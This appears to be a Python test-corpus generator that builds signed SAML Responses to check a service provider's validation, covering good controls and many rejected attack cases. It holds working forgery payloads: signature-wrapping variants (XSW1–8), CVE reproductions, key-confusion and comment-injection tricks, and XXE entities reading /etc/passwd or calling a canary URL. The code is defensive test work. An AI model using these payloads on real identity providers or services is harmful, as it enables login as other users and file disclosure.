# tests/saml/cases.py — owns the generated SAML Response corpus (attacks + positive controls) and its xmlsec1 self-check.
"""Generate signed SAML 2.0 Responses for SP validation tests (security-checklist SM01–SM18, §3.2/§3.3).

    echo '{...}' | python3 tests/saml/cases.py          # JSON in, JSON out (see README.md)
    python3 tests/saml/cases.py --self-check [--keep DIR]
    python3 tests/saml/cases.py --list

Signatures are RSA-SHA256 / SHA-256 / exclusive c14n, enveloped, placed right after the
signed element's Issuer (schema position). Documents are pretty-printed on purpose, so every
element removal inside signed content must keep the following whitespace (see drop()).
"""

import base64
import copy
import datetime
import hashlib
import hmac
import json
import os
import secrets
import shutil
import subprocess
import sys
import tempfile

import signxml

import testkeys
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from lxml import etree

XMLSEC1 = "/usr/bin/xmlsec1"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
XS = "http://www.w3.org/2001/XMLSchema"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
SIG_RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
SIG_HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
DIGEST_SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
STATUS_REQUESTER = "urn:oasis:names:tc:SAML:2.0:status:Requester"
STATUS_REQUEST_DENIED = "urn:oasis:names:tc:SAML:2.0:status:RequestDenied"
NAMEID_PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
PPT = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"

# The attacker owns a genuine account at the IdP; wrapping attacks start from a response
# the IdP signed for it and try to become the victim (the input name_id).
ATTACKER_NAME_ID = "attacker@attacker.test"
EVIL_URL = "https://evil.test"
DEFAULT_CANARY = "http://127.0.0.1:18099"
COGNITO_MAX_CHARS = 100_000


def q(ns, tag):
    return f"{{{ns}}}{tag}"


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def new_id():
    return "_" + secrets.token_hex(20)


MISSING = object()  # "leave this attribute/element out"


# --------------------------------------------------------------------------- building


class Ctx:
    """Per-run inputs plus a fresh attacker key pair."""

    def __init__(self, idp_key_pem, idp_cert_pem, issuer, audience, acs, name_id, canary=DEFAULT_CANARY):
        self.key = serialization.load_pem_private_key(idp_key_pem, password=None)
        self.cert_pem = idp_cert_pem.decode() if isinstance(idp_cert_pem, bytes) else idp_cert_pem
        self.issuer, self.audience, self.acs, self.name_id = issuer, audience, acs, name_id
        self.canary = canary.rstrip("/")
        self.attacker_key, self.attacker_cert_pem = make_key_and_cert("attacker")
        self.in_response_to = None


def make_key_and_cert(cn):
    key, cert = testkeys.self_signed(cn)
    return key, cert.public_bytes(serialization.Encoding.PEM).decode()


def build(ctx, name_id, **o):
    """A Success Response with one bearer Assertion; keyword overrides bend single fields."""
    now = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
    minutes = lambda m: iso(now + datetime.timedelta(minutes=m))  # noqa: E731
    irt = o.get("in_response_to", ctx.in_response_to)
    issuer = o.get("issuer", ctx.issuer)

    r = etree.Element(q(SAMLP, "Response"), nsmap={"samlp": SAMLP, "saml": SAML})
    r.set("ID", new_id())
    r.set("Version", "2.0")
    r.set("IssueInstant", iso(now))
    r.set("Destination", o.get("destination", ctx.acs))
    if irt not in (None, MISSING):
        r.set("InResponseTo", irt)
    etree.SubElement(r, q(SAML, "Issuer")).text = issuer
    status = etree.SubElement(r, q(SAMLP, "Status"))
    code = etree.SubElement(status, q(SAMLP, "StatusCode"), Value=o.get("status", STATUS_SUCCESS))
    if o.get("sub_status"):
        etree.SubElement(code, q(SAMLP, "StatusCode"), Value=o["sub_status"])
    if o.get("assertion", True):
        r.append(build_assertion(ctx, name_id, now, minutes, irt, issuer, o))
    etree.indent(r, space="  ")
    return r


def build_assertion(ctx, name_id, now, minutes, irt, issuer, o):
    a = etree.Element(q(SAML, "Assertion"), nsmap={"saml": SAML, "xs": XS, "xsi": XSI})
    a.set("ID", new_id())
    a.set("Version", "2.0")
    a.set("IssueInstant", iso(now))
    etree.SubElement(a, q(SAML, "Issuer")).text = issuer
    subject = etree.SubElement(a, q(SAML, "Subject"))
    etree.SubElement(subject, q(SAML, "NameID"), Format=NAMEID_PERSISTENT).text = name_id
    sc = etree.SubElement(subject, q(SAML, "SubjectConfirmation"), Method=BEARER)
    scd = etree.SubElement(sc, q(SAML, "SubjectConfirmationData"))
    scd.set("NotOnOrAfter", o.get("scd_not_on_or_after", minutes(5)))
    scd.set("Recipient", o.get("recipient", ctx.acs))
    if irt not in (None, MISSING):
        scd.set("InResponseTo", irt)
    cond = etree.SubElement(a, q(SAML, "Conditions"))
    cond.set("NotBefore", o.get("not_before", minutes(-1)))
    cond.set("NotOnOrAfter", o.get("not_on_or_after", minutes(5)))
    audience = o.get("audience", ctx.audience)
    if audience is not MISSING:
        ar = etree.SubElement(cond, q(SAML, "AudienceRestriction"))
        etree.SubElement(ar, q(SAML, "Audience")).text = audience
    authn = etree.SubElement(a, q(SAML, "AuthnStatement"), AuthnInstant=iso(now), SessionIndex=new_id())
    etree.SubElement(etree.SubElement(authn, q(SAML, "AuthnContext")), q(SAML, "AuthnContextClassRef")).text = PPT
    attrs = etree.SubElement(a, q(SAML, "AttributeStatement"))
    for name, value in [("email", o.get("email", name_id))] + o.get("extra_attributes", []):
        attr = etree.SubElement(attrs, q(SAML, "Attribute"), Name=name)
        attr.set("NameFormat", "urn:oasis:names:tc:SAML:2.0:attrname-format:unspecified")
        av = etree.SubElement(attr, q(SAML, "AttributeValue"))
        av.set(q(XSI, "type"), "xs:string")
        av.text = value
    return a


# --------------------------------------------------------------------------- signing


def by_id(root, ident):
    found = root.xpath("//*[@ID=$i]", i=ident)
    assert len(found) == 1, f"{ident}: {len(found)} nodes"
    return found[0]


def sign(root, target_id, key, cert_pem, references=None):
    """Enveloped RSA-SHA256 signature over #target_id, placed after the target's Issuer.

    signxml re-parses its input, so the returned root is a new tree.
    """
    target = by_id(root, target_id)
    placeholder = etree.Element(q(DS, "Signature"), Id="placeholder", nsmap={"ds": DS})
    issuer = target.find(q(SAML, "Issuer"))
    placeholder.tail = issuer.tail
    issuer.addnext(placeholder)
    signer = signxml.XMLSigner(
        method=signxml.methods.enveloped,
        signature_algorithm="rsa-sha256",
        digest_algorithm="sha256",
        c14n_algorithm=EXC_C14N,
    )
    return signer.sign(
        root, key=key, cert=cert_pem, reference_uri=references or "#" + target_id, id_attribute="ID"
    )


def own_signature(el):
    return el.find(q(DS, "Signature"))


def drop(el):
    """Remove el like DOM removeChild: its tail text stays where it was.

    lxml's parent.remove() takes the tail along, which changes the canonical form of the
    parent and silently breaks the digest of a signed copy (checklist §3.2).
    """
    parent = el.getparent()
    if el.tail:
        prev = el.getprevious()
        if prev is not None:
            prev.tail = (prev.tail or "") + el.tail
        else:
            parent.text = (parent.text or "") + el.tail
    el.tail = None
    parent.remove(el)
    return el


def c14n(el):
    return etree.tostring(el, method="c14n", exclusive=True, with_comments=False)


def enveloped_digest(target, hash_name="sha256"):
    """Digest of target as an enveloped-signature verifier sees it (its own Signature excised)."""
    clone = copy.deepcopy(target)
    clone.tail = None
    sig = own_signature(clone)
    if sig is not None:
        drop(sig)
    return base64.b64encode(hashlib.new(hash_name, c14n(clone)).digest()).decode()


def resign_signed_info(signature, key, hash_cls=hashes.SHA256):
    si = signature.find(q(DS, "SignedInfo"))
    value = key.sign(c14n(si), padding.PKCS1v15(), hash_cls())
    signature.find(q(DS, "SignatureValue")).text = base64.b64encode(value).decode()


def evilize(el, name_id):
    """Make the copy the attacker wants consumed: victim NameID and email everywhere in el."""
    for n in el.iter(q(SAML, "NameID")):
        n.text = name_id
    for av in el.iter(q(SAML, "AttributeValue")):
        av.text = name_id


def serialize(root, doctype=None):
    body = etree.tostring(root, encoding="UTF-8", xml_declaration=False)
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n'
    if doctype:
        head += doctype.encode() + b"\n"
    return head + body


# --------------------------------------------------------------------------- bases


def assertion_signed(ctx, name_id, **o):
    r = build(ctx, name_id, **o)
    return sign(r, r.find(q(SAML, "Assertion")).get("ID"), ctx.key, ctx.cert_pem)


def response_signed(ctx, name_id, **o):
    r = build(ctx, name_id, **o)
    return sign(r, r.get("ID"), ctx.key, ctx.cert_pem)


def both_signed(ctx, name_id, **o):
    r = assertion_signed(ctx, name_id, **o)
    return sign(r, r.get("ID"), ctx.key, ctx.cert_pem)


def assertion_of(r):
    return r.find(q(SAML, "Assertion"))


# --------------------------------------------------------------------------- cases
# Each case returns (xml bytes, note). CASES maps name -> (expect, oracle, fn);
# oracle is what `xmlsec1 --verify` with the IdP key must say (None = not run).


def good_assertion_signed(ctx):
    return serialize(assertion_signed(ctx, ctx.name_id)), "genuine; Assertion signed"


def good_response_signed(ctx):
    return serialize(response_signed(ctx, ctx.name_id)), "genuine; Response signed"


def good_both_signed(ctx):
    return serialize(both_signed(ctx, ctx.name_id)), "genuine; Response and Assertion signed"


def strip_signatures(ctx):
    r = both_signed(ctx, ATTACKER_NAME_ID)
    for s in r.findall(".//" + q(DS, "Signature")):
        drop(s)
    evilize(r, ctx.name_id)
    return serialize(r), "all Signatures removed, NameID forged (SM01)"


def empty_signature_value(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    evilize(a, ctx.name_id)
    sig = own_signature(a)
    sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}/{q(DS, 'DigestValue')}").text = enveloped_digest(a)
    sig.find(q(DS, "SignatureValue")).text = ""
    return serialize(r), "forged Assertion, correct digest, empty SignatureValue (SM01)"


def resign_with_attacker_key(ctx):
    r = build(ctx, ctx.name_id)
    r = sign(r, assertion_of(r).get("ID"), ctx.attacker_key, ctx.attacker_cert_pem)
    return serialize(r), "Assertion signed by an attacker key whose cert is in KeyInfo (SM02)"


def tampered_nameid(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    assertion_of(r).find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}").text = ctx.name_id
    return serialize(r), "NameID changed after signing (digest mismatch)"


def unsigned_copy(el):
    """A detached deep copy of a signed element, without its own Signature."""
    c = copy.deepcopy(el)
    c.tail = None
    drop(own_signature(c))
    return c


def xsw1(ctx):
    r = response_signed(ctx, ATTACKER_NAME_ID)
    s = own_signature(r)
    c = copy.deepcopy(r)
    drop(own_signature(c))
    evilize(r, ctx.name_id)
    s.append(c)
    r.set("ID", new_id())
    return serialize(r), "XSW1: signed Response copy inside Signature, evil root Response"


def xsw2(ctx):
    r = response_signed(ctx, ATTACKER_NAME_ID)
    s = own_signature(r)
    c = copy.deepcopy(r)
    drop(own_signature(c))
    evilize(r, ctx.name_id)
    c.tail = s.getparent().text  # keep the layout readable; outside any signed content
    s.addprevious(c)
    r.set("ID", new_id())
    return serialize(r), "XSW2: signed Response copy before the (now detached) Signature"


def _evil_assertion_copy(ctx, a):
    e = copy.deepcopy(a)
    e.tail = None
    evilize(e, ctx.name_id)
    e.set("ID", new_id())
    drop(own_signature(e))
    return e


def xsw3(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    e = _evil_assertion_copy(ctx, a)
    e.tail = a.getprevious().tail
    a.addprevious(e)
    return serialize(r), "XSW3: unsigned evil Assertion before the signed one"


def xsw4(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    e = _evil_assertion_copy(ctx, a)
    drop(a)
    r.append(e)
    e.append(a)
    return serialize(r), "XSW4: signed Assertion nested as last child of the evil one"


def xsw5(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    c = unsigned_copy(a)
    evilize(a, ctx.name_id)
    a.set("ID", new_id())
    r.append(c)
    return serialize(r), "XSW5: evil Assertion keeps the Signature; signed original appended unsigned"


def xsw6(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    c = unsigned_copy(a)
    evilize(a, ctx.name_id)
    a.set("ID", new_id())
    own_signature(a).append(c)
    return serialize(r), "XSW6: signed original hidden inside the evil Assertion's Signature"


def _xsw7(ctx, schema_valid):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    e = copy.deepcopy(a)  # same ID as the signed one
    e.tail = None
    evilize(e, ctx.name_id)
    drop(own_signature(e))
    if schema_valid:
        ext = etree.Element(q(SAMLP, "Extensions"))
        ext.append(e)
        ext.tail = r.find(q(SAML, "Issuer")).tail
        r.find(q(SAML, "Issuer")).addnext(ext)  # schema position: after Issuer, before Status
    else:
        ext = etree.Element("Extensions")
        ext.append(e)
        ext.tail = a.getprevious().tail
        a.addprevious(ext)
    return serialize(r)


def xsw7(ctx):
    return _xsw7(ctx, False), "XSW7: evil Assertion with the same ID inside an un-namespaced <Extensions>"


def xsw7_schema_valid(ctx):
    return _xsw7(ctx, True), "XSW7 with samlp:Extensions at its schema position (schema-valid)"


def xsw8(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    c = copy.deepcopy(a)  # same ID A0
    c.tail = None
    drop(own_signature(c))
    evilize(a, ctx.name_id)
    obj = etree.SubElement(own_signature(a), q(DS, "Object"))
    obj.append(c)
    return serialize(r), "XSW8: evil Assertion keeps ID and Signature; signed original inside ds:Object"


def two_assertions_cve_2022_41912(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    e = copy.deepcopy(a)
    e.tail = None
    evilize(e, ctx.name_id)
    e.set("ID", a.get("ID") + "_attack")
    drop(own_signature(e))
    a.tail = r.text
    r.append(e)
    return serialize(r), "signed Assertion first, unsigned forged second (CVE-2022-41912)"


def comment_injection_nameid(ctx):
    full = ctx.name_id + ".attacker.test"
    r = assertion_signed(ctx, full, email=full)
    nid = assertion_of(r).find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
    nid.text = ctx.name_id
    comment = etree.Comment("")
    comment.tail = ".attacker.test"
    nid.append(comment)
    return serialize(r), f"IdP signed {full}; <!----> inserted (SM10) - never log in as {ctx.name_id}"


def _minutes(m):
    return iso(datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(minutes=m))


# One field wrong, everything else genuine and signed on both Response and Assertion:
# case -> (both_signed overrides, note). Built lazily, since times are relative to now.
FIELD_CASES = {
    "expired_conditions": (
        lambda ctx: dict(not_before=_minutes(-20), not_on_or_after=_minutes(-10)),
        "Conditions NotOnOrAfter 10 min ago (SM15)",
    ),
    "not_yet_valid": (
        lambda ctx: dict(not_before=_minutes(10), not_on_or_after=_minutes(20)),
        "Conditions NotBefore in 10 min (SM15)",
    ),
    "expired_subjectconfirmation": (
        lambda ctx: dict(scd_not_on_or_after=_minutes(-10)),
        "SubjectConfirmationData NotOnOrAfter 10 min ago (SM14)",
    ),
    "wrong_audience": (
        lambda ctx: dict(audience="urn:amazon:cognito:sp:attacker-pool"),
        "Audience is another SP (SM16)",
    ),
    "no_audience": (lambda ctx: dict(audience=MISSING), "Conditions without AudienceRestriction (SM16)"),
    "wrong_destination": (
        lambda ctx: dict(destination=EVIL_URL + "/saml2/idpresponse"),
        "signed Response Destination is another ACS (SM13)",
    ),
    "wrong_recipient": (
        lambda ctx: dict(recipient=EVIL_URL + "/saml2/idpresponse"),
        "SubjectConfirmationData Recipient is another ACS (SM14)",
    ),
    "wrong_inresponseto": (
        lambda ctx: dict(in_response_to=new_id()),
        "InResponseTo names a request we never sent (SM14/SM19)",
    ),
    "missing_inresponseto": (
        lambda ctx: dict(in_response_to=MISSING),
        "unsolicited (no InResponseTo); accept only with IdP-initiated on (SM19)",
    ),
    "wrong_issuer": (
        lambda ctx: dict(issuer=EVIL_URL + "/idp"),
        "Issuer is another IdP, signed with the real key (SM17)",
    ),
    "status_responder": (
        lambda ctx: dict(status=STATUS_REQUESTER, sub_status=STATUS_REQUEST_DENIED),
        "signed non-Success status (Requester/RequestDenied) carrying a signed Assertion (SM18)",
    ),
}


def field_case(name):
    overrides, note = FIELD_CASES[name]

    def case(ctx):
        return serialize(both_signed(ctx, ctx.name_id, **overrides(ctx))), note

    return case


def decoy_signature_error_response(ctx):
    r = response_signed(ctx, ctx.name_id, status=STATUS_REQUESTER, assertion=False)
    s = own_signature(r)
    decoy = etree.Element(q(DS, "Signature"), nsmap={"ds": DS})
    decoy.append(copy.deepcopy(s.find(q(DS, "SignedInfo"))))
    decoy.append(copy.deepcopy(s.find(q(DS, "SignatureValue"))))
    forged = assertion_of(build(ctx, ctx.name_id))
    etree.SubElement(decoy, q(DS, "Object")).append(forged)
    # Inside the genuine Signature the decoy is excised by its enveloped transform: digest intact.
    etree.SubElement(s, q(DS, "Object")).append(decoy)
    return serialize(r), "signed Requester error + decoy Signature whose ds:Object holds a forged Assertion (SM18)"


def xslt_transform(ctx):
    r = assertion_signed(ctx, ctx.name_id)
    sig = own_signature(assertion_of(r))
    transforms = sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}/{q(DS, 'Transforms')}")
    xslt = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=XSLT_TRANSFORM)
    xsl = "http://www.w3.org/1999/XSL/Transform"
    sheet = etree.SubElement(xslt, f"{{{xsl}}}stylesheet", nsmap={"xsl": xsl}, version="1.0")
    tpl = etree.SubElement(sheet, f"{{{xsl}}}template", match="/")
    etree.SubElement(tpl, f"{{{xsl}}}copy-of", select=f"document('{ctx.canary}/xslt')")
    resign_signed_info(sig, ctx.key)
    return serialize(r), f"Reference with an XSLT Transform fetching {ctx.canary}/xslt; SignedInfo validly signed (SM07)"


def injected_digestvalue_cve_2024_45409(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    evilize(a, ctx.name_id)
    ext = etree.Element(q(SAMLP, "Extensions"))
    etree.SubElement(ext, q(DS, "DigestValue"), nsmap={"ds": DS}).text = enveloped_digest(a)
    issuer = r.find(q(SAML, "Issuer"))
    ext.tail = issuer.tail
    issuer.addnext(ext)
    return serialize(r), "forged Assertion; its digest in an earlier ds:DigestValue in samlp:Extensions (CVE-2024-45409)"


def comment_in_digestvalue_cve_2025_29775(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    evilize(a, ctx.name_id)
    sig = own_signature(a)
    dv = sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}/{q(DS, 'DigestValue')}")
    comment = etree.Comment(enveloped_digest(a))
    comment.tail, dv.text = dv.text, None
    dv.append(comment)
    return serialize(r), "forged Assertion; <DigestValue><!--forged digest-->original</DigestValue> (CVE-2025-29775)"


def two_references(ctx):
    r = build(ctx, ctx.name_id)
    a_id = assertion_of(r).get("ID")
    r = sign(r, a_id, ctx.key, ctx.cert_pem, references=["#" + a_id, "#" + r.get("ID")])
    return serialize(r), "genuine Signature with two References (#Assertion, #Response) (SM06/SM08)"


def rsa_sha1_signature(ctx):
    r = assertion_signed(ctx, ctx.name_id)
    a = assertion_of(r)
    sig = own_signature(a)
    si = sig.find(q(DS, "SignedInfo"))
    si.find(q(DS, "SignatureMethod")).set("Algorithm", SIG_RSA_SHA1)
    ref = si.find(q(DS, "Reference"))
    ref.find(q(DS, "DigestMethod")).set("Algorithm", DIGEST_SHA1)
    ref.find(q(DS, "DigestValue")).text = enveloped_digest(a, "sha1")
    resign_signed_info(sig, ctx.key, hashes.SHA1)
    return serialize(r), "genuine rsa-sha1 / sha1 signature (SM09: SHA-1 off by default)"


def hmac_sha256_signature(ctx):
    r = assertion_signed(ctx, ctx.name_id)
    sig = own_signature(assertion_of(r))
    si = sig.find(q(DS, "SignedInfo"))
    si.find(q(DS, "SignatureMethod")).set("Algorithm", SIG_HMAC_SHA256)
    drop(sig.find(q(DS, "KeyInfo")))
    # Key confusion: the HMAC key is the IdP's public certificate, which anyone has.
    mac = hmac.new(ctx.cert_pem.encode(), c14n(si), hashlib.sha256).digest()
    sig.find(q(DS, "SignatureValue")).text = base64.b64encode(mac).decode()
    return serialize(r), "SignatureMethod hmac-sha256 keyed with the IdP certificate PEM (SM09)"


DOCTYPE_ROOT = "<!DOCTYPE samlp:Response"


def _with_extension_payload(ctx, doctype, payload):
    """Assertion-signed response whose unsigned samlp:Extensions holds an entity reference.

    The signature stays valid, so only the DOCTYPE is wrong (SM11).
    """
    r = assertion_signed(ctx, ctx.name_id)
    ext = etree.Element(q(SAMLP, "Extensions"))
    etree.SubElement(ext, "{urn:test:xxe}leak", nsmap={"x": "urn:test:xxe"}).text = "@@PAYLOAD@@"
    issuer = r.find(q(SAML, "Issuer"))
    ext.tail = issuer.tail
    issuer.addnext(ext)
    return serialize(r, doctype).replace(b"@@PAYLOAD@@", payload.encode())


def doctype_plain(ctx):
    return serialize(assertion_signed(ctx, ctx.name_id), DOCTYPE_ROOT + ">"), "harmless DOCTYPE, valid signature (SM11)"


def xxe_file(ctx):
    dt = DOCTYPE_ROOT + ' [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return _with_extension_payload(ctx, dt, "&xxe;"), "external entity file:///etc/passwd in samlp:Extensions (SM11)"


def xxe_external_general(ctx):
    dt = DOCTYPE_ROOT + f' [<!ENTITY xxe SYSTEM "{ctx.canary}/xxe-general">]>'
    return _with_extension_payload(ctx, dt, "&xxe;"), f"external entity fetching {ctx.canary}/xxe-general (SM11)"


def xxe_parameter(ctx):
    dt = DOCTYPE_ROOT + f' [<!ENTITY % p SYSTEM "{ctx.canary}/xxe-param"> %p;]>'
    return _with_extension_payload(ctx, dt, "x"), f"parameter entity fetching {ctx.canary}/xxe-param (SM11)"


def billion_laughs(ctx):
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10)
    ]
    dt = DOCTYPE_ROOT + " [" + "".join(ents) + "]>"
    return _with_extension_payload(ctx, dt, "&lol9;"), "10x10 entity expansion (10^9 x 'lol') in samlp:Extensions (SM11)"


def oversized(ctx):
    pad = 80_000
    while True:
        r = assertion_signed(ctx, ctx.name_id, extra_attributes=[("padding", "A" * pad)])
        xml = serialize(r)
        if len(base64.b64encode(xml)) > COGNITO_MAX_CHARS:
            return xml, f"valid signed Response of {len(base64.b64encode(xml))} base64 chars (> {COGNITO_MAX_CHARS}, SM12)"
        pad += 10_000


def reference_uri_empty(ctx):
    r = response_signed(ctx, ctx.name_id)
    sig = own_signature(r)
    # Same node set as #ID for a root-level enveloped signature, so the digest is unchanged.
    sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}").set("URI", "")
    resign_signed_info(sig, ctx.key)
    return serialize(r), 'genuine Response signature with Reference URI="" (SM06)'


def signature_moved(ctx):
    r = assertion_signed(ctx, ctx.name_id)
    sig = drop(own_signature(assertion_of(r)))
    issuer = r.find(q(SAML, "Issuer"))
    sig.tail = issuer.tail
    issuer.addnext(sig)
    return serialize(r), "valid Assertion Signature moved to be a child of the Response (SM06)"


def signed_assertion_in_extensions(ctx):
    r = assertion_signed(ctx, ATTACKER_NAME_ID)
    a = assertion_of(r)
    forged = _evil_assertion_copy(ctx, a)
    forged.set("ID", a.get("ID") + "_forged")
    sig_copy = copy.deepcopy(own_signature(a))
    sig_copy.tail = forged.find(q(SAML, "Issuer")).tail
    forged.find(q(SAML, "Issuer")).addnext(sig_copy)
    forged.tail = a.tail
    a.addprevious(forged)
    drop(a)
    ext = etree.Element(q(SAMLP, "Extensions"))
    ext.append(a)
    issuer = r.find(q(SAML, "Issuer"))
    ext.tail = issuer.tail
    issuer.addnext(ext)
    return serialize(r), "genuine signed Assertion hidden in samlp:Extensions; forged one with a copied Signature in its place"


OK, FAIL = "OK", "FAIL"
# name -> (expect, xmlsec1 oracle, builder). Extras beyond the brief are marked.
CASES = {
    "good_assertion_signed": ("accept", OK, good_assertion_signed),
    "good_response_signed": ("accept", OK, good_response_signed),
    "good_both_signed": ("accept", OK, good_both_signed),
    "strip_signatures": ("reject", FAIL, strip_signatures),
    "empty_signature_value": ("reject", FAIL, empty_signature_value),
    "resign_with_attacker_key": ("reject", FAIL, resign_with_attacker_key),
    "tampered_nameid": ("reject", FAIL, tampered_nameid),
    "xsw1": ("reject", OK, xsw1),
    "xsw2": ("reject", OK, xsw2),
    "xsw3": ("reject", OK, xsw3),
    "xsw4": ("reject", OK, xsw4),
    "xsw5": ("reject", OK, xsw5),
    "xsw6": ("reject", OK, xsw6),
    "xsw7": ("reject", OK, xsw7),
    "xsw7_schema_valid": ("reject", OK, xsw7_schema_valid),
    "xsw8": ("reject", OK, xsw8),
    "two_assertions_cve_2022_41912": ("reject", OK, two_assertions_cve_2022_41912),
    "comment_injection_nameid": ("reject", OK, comment_injection_nameid),
    "expired_conditions": ("reject", OK, field_case("expired_conditions")),
    "not_yet_valid": ("reject", OK, field_case("not_yet_valid")),
    "expired_subjectconfirmation": ("reject", OK, field_case("expired_subjectconfirmation")),
    "wrong_audience": ("reject", OK, field_case("wrong_audience")),
    "no_audience": ("reject", OK, field_case("no_audience")),
    "wrong_destination": ("reject", OK, field_case("wrong_destination")),
    "wrong_recipient": ("reject", OK, field_case("wrong_recipient")),
    "wrong_inresponseto": ("reject", OK, field_case("wrong_inresponseto")),
    "missing_inresponseto": ("reject", OK, field_case("missing_inresponseto")),
    "wrong_issuer": ("reject", OK, field_case("wrong_issuer")),
    "status_responder": ("reject", OK, field_case("status_responder")),
    "decoy_signature_error_response": ("reject", OK, decoy_signature_error_response),
    "xslt_transform": ("reject", None, xslt_transform),
    "injected_digestvalue_cve_2024_45409": ("reject", FAIL, injected_digestvalue_cve_2024_45409),
    "comment_in_digestvalue_cve_2025_29775": ("reject", FAIL, comment_in_digestvalue_cve_2025_29775),
    "two_references": ("reject", OK, two_references),
    "rsa_sha1_signature": ("reject", OK, rsa_sha1_signature),
    "doctype_plain": ("reject", OK, doctype_plain),
    "xxe_file": ("reject", None, xxe_file),
    "billion_laughs": ("reject", None, billion_laughs),
    "oversized": ("reject", OK, oversized),
    "reference_uri_empty": ("reject", OK, reference_uri_empty),
    "signature_moved": ("reject", OK, signature_moved),
    # extras
    "hmac_sha256_signature": ("reject", FAIL, hmac_sha256_signature),
    "xxe_external_general": ("reject", None, xxe_external_general),
    "xxe_parameter": ("reject", None, xxe_parameter),
    "signed_assertion_in_extensions": ("reject", OK, signed_assertion_in_extensions),
}


def generate(ctx, name, in_response_to):
    if name not in CASES:
        raise KeyError(f"unknown case {name!r}")
    expect, _oracle, fn = CASES[name]
    ctx.in_response_to = in_response_to
    xml, note = fn(ctx)
    if in_response_to is None and name != "missing_inresponseto":
        note += " [unsolicited: no InResponseTo]"
    return {"name": name, "expect": expect, "saml_response": base64.b64encode(xml).decode(), "note": note}


def run(request):
    with open(request["idp_key"], "rb") as f:
        key_pem = f.read()
    with open(request["idp_cert"], "rb") as f:
        cert_pem = f.read()
    ctx = Ctx(
        key_pem,
        cert_pem,
        request["issuer"],
        request["audience"],
        request["acs"],
        request.get("name_id", "admin@example.test"),
        request.get("canary_url", DEFAULT_CANARY),
    )
    cases = request.get("cases") or [{"name": n, "in_response_to": None} for n in CASES]
    return [generate(ctx, c["name"], c.get("in_response_to")) for c in cases]


# --------------------------------------------------------------------------- self-check


def xmlsec_verify(path, pubkey_path, node_xpath=None):
    cmd = [
        XMLSEC1,
        "--verify",
        "--enabled-key-data",
        "rsa",  # only the key given here; never a KeyInfo certificate
        "--pubkey-pem",
        pubkey_path,
        "--id-attr:ID",
        "urn:oasis:names:tc:SAML:2.0:protocol:Response",
        "--id-attr:ID",
        "urn:oasis:names:tc:SAML:2.0:assertion:Assertion",
    ]
    if node_xpath:
        cmd += ["--node-xpath", node_xpath]
    r = subprocess.run(cmd + [path], capture_output=True, timeout=30)
    return (OK if r.returncode == 0 else FAIL), r.stderr.decode(errors="replace").strip().splitlines()[-1:]


WRAPPING = {"xsw1", "xsw2", "xsw3", "xsw4", "xsw5", "xsw6", "xsw7", "xsw7_schema_valid", "xsw8",
            "two_assertions_cve_2022_41912", "signed_assertion_in_extensions"}


def xmlsec_verify_extracted(xml, tmp, pubkey_path):
    """Faithfulness check for wrapping cases that xmlsec1 refuses as a whole (duplicate IDs,
    foreign content inside ds:Signature): cut out each element carrying the Reference's ID,
    put the bare Signature (SignedInfo, SignatureValue, KeyInfo) back after its Issuer and let
    xmlsec1 verify that stand-alone document. OK means the wrapped document still carries the
    IdP's signed bytes unchanged, i.e. what a naive ID-resolving verifier would accept.
    """
    root = etree.fromstring(xml)
    sig = next(s for s in root.iter(q(DS, "Signature")) if s.getparent().tag != q(DS, "Object"))
    ref_id = sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}").get("URI").lstrip("#")
    bare = etree.Element(q(DS, "Signature"), nsmap={"ds": DS})
    for child in sig:
        if child.tag in (q(DS, "SignedInfo"), q(DS, "SignatureValue"), q(DS, "KeyInfo")):
            bare.append(copy.deepcopy(child))
    for n, candidate in enumerate(root.xpath("//*[@ID=$i]", i=ref_id)):
        doc = etree.fromstring(etree.tostring(candidate, with_tail=False))
        if own_signature(doc) is None:
            s = copy.deepcopy(bare)
